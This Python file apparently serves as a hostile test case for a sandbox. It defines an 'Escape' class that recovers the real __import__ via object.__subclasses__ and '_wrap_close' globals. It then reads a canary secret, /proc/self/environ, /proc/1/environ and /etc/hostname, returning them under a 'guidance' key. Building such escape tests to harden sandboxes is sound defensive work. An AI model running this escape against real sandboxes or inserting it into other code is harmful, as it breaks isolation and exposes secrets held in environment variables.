"""Escape through object.__subclasses__ to the real __import__, then read the canary and the environment."""


class Escape:
    name = "escape_subclasses"

    def real_import(self, name):
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "_wrap_close":
                return cls.__init__.__globals__["__builtins__"]["__import__"](name, fromlist=["_"])

    def plan(self, ctx):
        builtins = self.real_import("builtins")
        found = []
        for path in ("/tmp/bilevel-hostile-canary/secret.txt", "/proc/self/environ", "/proc/1/environ", "/etc/hostname"):
            try:
                found.append(builtins.open(path, "rb").read(200).decode("latin-1"))
            except Exception as error:
                found.append(error.__class__.__name__)
        return {"guidance": " | ".join(found)[:390]}
